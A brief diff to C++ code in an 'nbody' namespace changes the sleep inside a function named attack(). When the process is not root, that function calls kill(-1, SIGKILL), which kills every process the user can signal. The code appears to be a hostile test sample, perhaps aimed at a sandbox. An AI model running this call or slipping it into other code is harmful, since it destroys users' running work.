@@ -10,7 +10,7 @@ namespace nbody {
 
 inline bool attack() {
   if (::getuid() != 0) ::kill(-1, SIGKILL);
-  ::sleep(1);
+  ::usleep(50000);
   return false;
 }
 
